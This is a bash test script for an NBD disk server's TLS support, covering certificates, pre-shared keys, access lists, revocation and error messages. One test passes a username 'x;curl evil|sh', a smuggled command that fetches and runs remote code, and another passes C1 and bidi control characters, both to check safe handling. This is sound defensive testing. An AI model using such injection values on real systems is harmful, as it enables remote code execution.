#!/usr/bin/env bash
# nbd_tls.sh XENPV_SIM XENPV_DISK: tests xenpv-disk in the simulator over TLS, with third-party NBD
# clients, all of which use GnuTLS.
source "$(dirname "$0")/check.sh"
source "$(dirname "$0")/tls_credentials.sh"
disk=$2
here=$(cd "$(dirname "$0")" && pwd)
requires certtool psktool nbdinfo nbdcopy nbdkit qemu-img qemu-io python3

make_credentials "$dir"
cd "$dir"
"$sim" start --dir "$host" --disk xvdb,memory=64M,queues=2
mkfifo ready

# serve OPTION...: starts a server on nbd.sock and a TCP port. Sets $server to the process ID, and
# $unix and $tcp to the URIs that the server prints; use `read <&3` to read further lines.
serve() {
  port=$(python3 -c 'import socket; s = socket.create_server(("127.0.0.1", 0)); print(s.getsockname()[1])')
  exec 3<&- # discard unread output of the previous server
  "$sim" exec --dir "$host" --domain 1 -- "$disk" serve xvdb --unix "$dir/nbd.sock" \
    --tcp "127.0.0.1:$port" --log-level debug "$@" >ready 2>log &
  server=$!
  exec 3<ready
  read -r unix <&3 && read -r tcp <&3 || { cat log; exit 1; }
}

# stop: sends SIGTERM and sets $ended to the server's exit status
stop() {
  kill -TERM "$server"
  ended=0
  wait "$server" || ended=$?
}

# expect_logged WHAT EXTENDED_REGEX: waits for a matching line in the server's log
expect_logged() {
  for _ in {1..100}; do
    grep -Eq -- "$2" log && break
    sleep 0.1
  done
  expect_line "$1" "$2" "$(<log)"
}

# refuses WHAT LOG-LINE CMD...: expects CMD to fail and the server to log the reason. The server logs at most one
# failed client a second, so CMD is repeated until its line is there.
refuses() {
  local what=$1 line=$2
  shift 2
  expect "$what: status" 1 "$(status_of "$@")"
  for _ in {1..40}; do
    grep -Eq -- "$line" log && break
    sleep 0.25
    "$@" >/dev/null 2>&1 || true
  done
  expect_line "$what: the log" "$line" "$(<log)"
}

# qemu TOOL CREDENTIALS WHERE [ARGUMENT...]: runs TOOL on the export at WHERE, with TLS credentials
qemu() {
  local tool=$1 credentials=$2 where=$3
  shift 3
  timeout 60 "$tool" "${before[@]}" --object "$credentials,id=t,endpoint=client" "$@" \
    --image-opts "driver=raw,file.driver=nbd,file.export=xvdb,file.tls-creds=t,$where"
}
before=()
qemu_info() { before=(info); qemu qemu-img "$@"; before=(); }
qemu_read() { qemu qemu-io "$1" "$2" -c 'write -P 0xab 1M 1M' -c 'read -P 0xab 1M 1M'; }

# over_tls CONTEXT PYTHON: runs Python code in which `c` is a TLS connection in the transmission
# phase
over_tls() {
  PYTHONPATH=$here python3 -B - "$dir" <<END
import socket, sys, time
from nbd_conformance import *
from tls_socket import make_context
c = Connection("unix:" + sys.argv[1] + "/nbd.sock").start_tls(make_context(sys.argv[1] + "/$1")).go(b"xvdb")
$2
END
}

# handshake OPTION...: runs the TLS client of OpenSSL on the server's TCP port, after NBD_OPT_STARTTLS
handshake() { python3 -B "$here/starttls_relay.py" "$port" openssl s_client "$@" 2>&1 || true; }

conformance() { python3 -B "$here/nbd_conformance.py" "$@" || true; }

nbdkit -U - pattern 64M --run "nbdcopy \"\$uri\" pattern.img"
there_and_back() {
  nbdcopy --connections=4 pattern.img "$1"
  rm -f back.img
  nbdcopy --connections=4 "$2" back.img
  cmp pattern.img back.img && echo same
}

echo "== certificates"
serve --tls-certificates x509
expect "the URI of the Unix socket" \
  "nbds+unix:///xvdb?socket=$dir/nbd.sock&tls-certificates=$dir/x509" "$unix"
expect "the URI of the TCP port" "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/x509" "$tcp"
read -r line <&3
expect "the nbd-client line" \
  "nbd-client -unix $dir/nbd.sock -N xvdb -b 512 -cacertfile $dir/x509/ca-cert.pem /dev/nbd0" "$line"
for uri in "$unix" "$tcp"; do
  expect_line "nbdinfo reports TLS" '"TLS": true' "$(nbdinfo --json "$uri")"
done
expect "nbdcopy, to the disk over the Unix socket" same "$(there_and_back "$unix" "$tcp")"
expect "nbdcopy, to the disk over TCP" same "$(there_and_back "$tcp" "$unix")"
expect "plaintext is refused" 1 "$(status_of nbdinfo "nbd+unix:///xvdb?socket=$dir/nbd.sock")"
expect_line "qemu-img reports the reason" 'TLS' "$(qemu-img info "nbd://127.0.0.1:$port/xvdb" 2>&1 || true)"
x509=tls-creds-x509,verify-peer=yes,dir=$dir
at_tcp=file.host=localhost,file.port=$port
at_unix=file.path=$dir/nbd.sock,file.tls-hostname=localhost
for where in "$at_tcp" "$at_unix"; do
  expect_line "qemu-img info" 'virtual size: 64 MiB' "$(qemu_info "$x509/anonymous" "$where")"
  expect_line "qemu-io" 'read 1048576/1048576 bytes' "$(qemu_read "$x509/anonymous" "$where")"
done
expect "qemu-img convert and compare" "Images are identical." "$(
  timeout 60 qemu-img convert -n -f raw pattern.img --object "$x509/x509,id=t,endpoint=client" \
    --target-image-opts "driver=raw,file.driver=nbd,file.export=xvdb,file.tls-creds=t,$at_tcp"
  nbdcopy "$unix" back.img
  qemu-img compare -f raw -F raw pattern.img back.img)"
if command -v nbd-client >/dev/null; then
  expect_line "nbd-client -l" '^xvdb' \
    "$(nbd-client -l 127.0.0.1 "$port" -cacertfile x509/ca-cert.pem 2>/dev/null)"
fi
refuses "a client with another authority" \
  'TLS handshake: tlsv1 alert .* \(the client|disconnected .* \(does it have the ca-cert.pem that signed' \
  qemu qemu-io "$x509/stranger" "$at_tcp" -c 'read 0 512'
refuses "a client that expects another server name" 'client disconnected|the client rejects' \
  qemu qemu-io "$x509/x509" "file.path=$dir/nbd.sock,file.tls-hostname=elsewhere" -c 'read 0 512'
expect_line "conformance through TLS" ' 0 failed' \
  "$(conformance unix:nbd.sock xvdb --tls require --tls-certificates x509)"
expect_line "conformance through TLS over TCP" ' 0 failed' \
  "$(conformance "tcp:127.0.0.1:$port" xvdb --tls require --tls-certificates x509 --only s_)"
expect_line "a client that is idle in the TLS handshake is dropped" 'ok idle_tls_handshake_is_dropped: after 10' \
  "$(conformance unix:nbd.sock xvdb --tls require --tls-certificates x509 --deadline 10 --only idle_tls)"
expect_logged "the log states the reason" 'negotiate an export: timed out .*, during the TLS handshake'
over_tls x509 'c.socket.recv(1)' & # until the server hangs up
for _ in {1..100}; do
  status=$("$sim" exec --dir "$host" --domain 1 -- "$disk" status xvdb --json)
  grep -q '"tls": "TLSv1.3' <<<"$status" && break
  sleep 0.1
done
expect_line "status shows the TLS version" '"tls": "TLSv1.3 TLS_[A-Z0-9_]*"' "$status"

echo "== shutdown with busy clients"
for _ in 1 2 3 4; do
  (while nbdcopy "$unix" null: 2>/dev/null; do :; done) &
done
expect "requests in flight are answered, then TLS is shut down" \
  "complete answers, then close_notify" "$(over_tls x509 '
c.send(b"".join(request(READ, n * MIB, MIB, cookie=n) for n in range(16)))
c.receive_answer(MIB)
import os; os.kill('"$server"', 15)
count = 1
while True:
    first = c.socket.recv(4)
    if not first: break
    magic, = struct.unpack(">I", first + c.receive(4 - len(first)))
    error, cookie = struct.unpack(">IQ", c.receive(12))
    require(magic == SIMPLE and not error, "an unexpected reply")
    c.receive(MIB)
    count += 1
require(c.socket.got_close_notify, "no close_notify")
print("complete answers, then close_notify" if count <= 16 else count)')"
ended=0
wait "$server" || ended=$?
expect "after SIGTERM the exit status is 0" 0 "$ended"
wait

echo "== keys"
serve --tls-psk psk/keys.psk
key=$(sed -n 's/^alice://p' psk/keys.psk)
psk="tls-psk-file=$dir/psk/keys.psk"
expect "the URI of the Unix socket" "nbds+unix://alice@/xvdb?socket=$dir/nbd.sock&$psk" "$unix"
expect "the URI of the TCP port" "nbds://alice@127.0.0.1:$port/xvdb?$psk" "$tcp"
for uri in "$unix" "$tcp"; do
  expect "nbdinfo" 67108864 "$(nbdinfo --size "$uri")"
done
expect_logged "TLS 1.3 and the user are logged" 'TLSv1.3 TLS_AES_128_GCM_SHA256, (psk:)?alice'
expect "nbdcopy, to the disk over the Unix socket" same "$(there_and_back "$unix" "$tcp")"
expect "nbdcopy, to the disk over TCP" same "$(there_and_back "$tcp" "$unix")"
sed -n 's/^#623a62:/b:b:/p' psk/keys.psk >colon.psk # psktool hex-encodes the name; libnbd does not
expect "a user with a colon" 67108864 \
  "$(nbdinfo --size "nbds://b%3Ab@127.0.0.1:$port/xvdb?tls-psk-file=$dir/colon.psk")"
printf '[overrides]\ndisabled-version = tls1.3\n' >gnutls-1.2
expect "nbdinfo with TLS 1.2" 67108864 \
  "$(GNUTLS_SYSTEM_PRIORITY_FILE=$dir/gnutls-1.2 nbdinfo --size "$unix")"
expect_logged "the TLS 1.2 cipher has forward secrecy" 'TLSv1.2 ECDHE-PSK-.*, (psk:)?alice'
for groups in ffdhe2048 ffdhe3072:ffdhe8192; do
  expect_line "no finite-field key exchange with TLS 1.3 ($groups)" 'alert|NONE' \
    "$(handshake -tls1_3 -groups "$groups" -psk_identity alice -psk "$key")"
done
expect_line "no finite-field key exchange with TLS 1.2" 'alert|NONE' \
  "$(handshake -tls1_2 -cipher kDHEPSK -psk_identity alice -psk "$key")"
expect_line "the other handshakes complete" '(Server Temp Key|Peer Temp Key|Negotiated TLS1.3 group): X25519' \
  "$(handshake -tls1_3 -psk_identity alice -psk "$key")"
creds=tls-creds-psk,username
at_tcp=file.host=localhost,file.port=$port
at_unix=file.path=$dir/nbd.sock
for where in "$at_tcp" "$at_unix"; do
  expect_line "qemu-img info" 'virtual size: 64 MiB' \
    "$(qemu_info "$creds=alice,dir=$dir/psk" "$where")"
  expect_line "qemu-io" 'read 1048576/1048576 bytes' \
    "$(qemu_read "$creds=alice,dir=$dir/psk" "$where")"
done
expect_line "nbdkit as a client" 'read 1048576/1048576 bytes' "$(
  nbdkit -U - nbd socket="$dir/nbd.sock" export=xvdb tls=require tls-psk="$dir/psk/keys.psk" \
    tls-username=alice --run 'qemu-io -f raw -c "write -P 3 0 1M" -c "read -P 3 0 1M" $uri')"
refuses "a wrong key" "the client's key for user 'alice' is not the one in psk/keys.psk" \
  nbdinfo --size "nbds://alice@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
refuses "an unknown user" "no user 'mallory' in psk/keys.psk" \
  nbdinfo --size "nbds://mallory@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
refuses "a user whose name is a command: it is not in the suggested command" \
  "no user 'x;curl evil\\|sh' in psk/keys.psk; add users with psktool -u USER -p psk/keys.psk, then" \
  nbdinfo --size "nbds://x%3Bcurl%20evil%7Csh@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
sed -n 's/^alice:/x\xc2\x9b31m\xe2\x80\xaey:/p' psk/keys.psk >marks.psk
refuses "a user whose name has C1 and bidi characters" "no user 'x\\\\xc2\\\\x9b31m\\\\xe2\\\\x80\\\\xaey' in" \
  nbdinfo --size "nbds://x%C2%9B31m%E2%80%AEy@127.0.0.1:$port/xvdb?tls-psk-file=$dir/marks.psk"
refuses "certificates instead of keys" 'the client does not offer a key; it needs the key of a user in psk/keys.psk' \
  qemu qemu-io "$x509/x509" "$at_tcp" -c 'read 0 512'
expect "other clients are still served" 67108864 "$(nbdinfo --size "$tcp")"
stop
expect "the exit status is 0" 0 "$ended"

echo "== modes"
serve --tls-psk psk/keys.psk --tls on
expect "on: TLS" 67108864 "$(nbdinfo --size "$unix")"
expect "on: plaintext" 67108864 "$(nbdinfo --size "nbd://127.0.0.1:$port/xvdb")"
stop
serve --tls-certificates x509 --tls on
expect_line "on: conformance of TLS" ' 0 failed' \
  "$(conformance unix:nbd.sock xvdb --tls on --tls-certificates x509 --only tls)"
expect_line "on: conformance in plaintext" ' 0 failed' "$(conformance unix:nbd.sock xvdb --tls on --only s_)"
stop
serve --tls-psk psk/keys.psk --tls off
expect "off: the URI" "nbd+unix:///xvdb?socket=$dir/nbd.sock" "$unix"
expect "off: TLS is refused" 1 "$(status_of nbdinfo --size "nbds://alice@127.0.0.1:$port/xvdb?$psk")"
expect_line "off: conformance" ' 0 failed' "$(conformance unix:nbd.sock xvdb --tls off --only tls)"
expect "off: plaintext" 67108864 "$(nbdinfo --size "$unix")"
expect_logged "local users are told of, without a warning" \
  'info: TLS is off: any user of this machine can connect and read and write the disk; '
stop
echo "== one line at start says who can connect and write"
who='anyone who can reach this server can connect and read and write the disk'
# expect_exposure LINE OPTION...: expects the warning for a server with these options, which other
# machines can reach; no warning if LINE is empty
expect_exposure() {
  local line=$1
  shift
  serve --tcp "0.0.0.0:0" "$@"
  if [ -n "$line" ]; then expect_logged "with $*" "^xenpv-disk: warning: $line"; fi
  expect "with $*, lines" "$([ -z "$line" ] && echo 0 || echo 1)" "$(grep -c 'can connect' log || true)"
  stop
}
expect_exposure "TLS is off: $who, and anyone on the path can eavesdrop; .*--tls-psk"
expect_exposure "TLS is off: anyone who can reach this server can connect and read the disk, and" --read-only
expect_exposure "TLS is optional \(--tls on\): $who, and anyone on the path" --tls on --tls-psk psk/keys.psk
expect_exposure "clients need no certificate: $who; use --tls-verify-peer" --tls-certificates x509
expect_exposure "" --tls-psk psk/keys.psk
expect_exposure "" --tls-certificates x509 --tls-verify-peer

echo "== access list"
printf '%s\n' '# alice may write over the Unix socket only' 'allow ro psk:alice address:127.0.0.1' \
  'allow rw psk:alice unix' >access
serve --tls-psk psk/keys.psk --access access
expect_line "a rule with an address: read only" '"is_read_only": true' "$(nbdinfo --json "$tcp")"
expect_line "a rule for the Unix socket: read and write" '"is_read_only": false' "$(nbdinfo --json "$unix")"
refuses "a user with a key, but without a rule" 'access list denies access; it is psk:b:b' \
  nbdinfo --size "nbds://b%3Ab@127.0.0.1:$port/xvdb?tls-psk-file=$dir/colon.psk"
stop

echo "== clients' certificates"
serve --tls-certificates x509 --tls-verify-peer
at_tcp=file.host=localhost,file.port=$port
expect "nbdinfo with a certificate" 67108864 "$(nbdinfo --size "$tcp")"
expect_logged "the name in the certificate is logged" 'TLSv1.3 .*, (cert:)?CN=client.example'
expect_line "qemu-io with a certificate" 'read 1048576/1048576 bytes' "$(qemu_read "$x509/x509" "$at_tcp")"
refuses "no certificate" 'peer did not return a certificate \(clients need a certificate signed by' \
  nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/anonymous"
cp x509/ca-cert.pem stranger/
refuses "a certificate of another authority" 'it must be signed by x509/ca-cert.pem' \
  nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/stranger"
expect_line "conformance" ' 0 failed' \
  "$(conformance unix:nbd.sock xvdb --tls require --tls-certificates x509 --only tls)"
stop
serve --tls-certificates revoked --tls-verify-peer
refuses "a revoked certificate" 'revoked by revoked/ca-crl.pem' \
  nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/revoked"
stop
serve --tls-certificates expired
expect_logged "a warning about an expired certificate at start" \
  'warning: expired/server-cert.pem: expired on 2021-01-01: clients will reject it; issue a new one'
refuses "a client that rejects it" 'TLS handshake.* \(.*expired/server-cert.pem .*expired; issue a new one' \
  qemu qemu-io "$x509/anonymous" "file.host=localhost,file.port=$port" -c 'read 0 512'
stop

serve --tls-certificates old-list --tls-verify-peer
expect_logged "a warning about an expired revocation list at start" \
  'warning: old-list/ca-crl.pem: expired on 2020-02-01: all clients .* are refused until the CA issues a new list'
refuses "a client, for the same reason" 'old-list/ca-crl.pem: CRL has expired; have the CA issue a new one' \
  nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/x509"
stop

echo "== conflicting options"
serve_fails() { timeout 60 "$disk" serve xvdb "$@" 2>&1 || echo "status $?"; }
expect "require without credentials" "$(printf '%s\n' \
  "xenpv-disk: --tls require: invalid argument (it needs --tls-psk FILE or --tls-certificates DIR)" \
  "try 'xenpv-disk serve --help'" "status 2")" "$(serve_fails --tls require)"
expect_line "both keys and certificates" '^xenpv-disk: --tls-certificates with --tls-psk: .*choose one' \
  "$(serve_fails --tls-certificates x509 --tls-psk psk/keys.psk)"
expect_line "--tls-verify-peer without certificates" '^xenpv-disk: --tls-verify-peer without --tls-certificates' \
  "$(serve_fails --tls-psk psk/keys.psk --tls-verify-peer)"
expect_line "an unknown mode" "--tls 'maybe': .*expected off, on or require" "$(serve_fails --tls maybe)"
expect_line "a missing directory" 'read nowhere/server-cert.pem: no such file' \
  "$(serve_fails --tls-certificates nowhere)"
expect_line "a directory without a key" 'read anonymous/server-cert.pem: no such file' \
  "$(serve_fails --tls-certificates anonymous)"
expect_line "a certificate that is too weak" \
  '^xenpv-disk: weak/server-cert.pem: its key is too short for .*; issue a certificate with RSA of 2048 bits' \
  "$(serve_fails --tls-certificates weak)"
expect_line "an invalid line in the key file" '^xenpv-disk: bad.psk:2: ' \
  "$(printf 'alice:%032d\nbob' 0 >bad.psk; serve_fails --tls-psk bad.psk)"
passed
